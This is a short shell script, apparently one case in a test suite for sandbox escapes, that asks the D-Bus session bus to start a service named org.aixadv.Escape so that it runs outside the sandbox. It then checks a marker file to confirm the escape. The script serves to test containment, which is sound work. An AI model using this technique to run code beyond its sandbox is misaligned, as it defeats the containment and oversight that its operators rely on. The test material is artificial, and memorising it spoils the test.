# technique: ask the D-Bus session bus ($XDG_RUNTIME_DIR/bus) to activate a service: the bus starts it outside the sandbox (like systemd-run --user)
# needs: dbus
# requires: dbus-send dbus-daemon
. ./.adv/world.env
export DBUS_SESSION_BUS_ADDRESS=unix:path=$XDG_RUNTIME_DIR/bus
dbus-send --session --print-reply --reply-timeout=3000 --dest=org.freedesktop.DBus /org/freedesktop/DBus \
	org.freedesktop.DBus.StartServiceByName string:org.aixadv.Escape uint32:0 2>&1
sleep 0.5
cat "$SCRATCH/dbus-escaped"
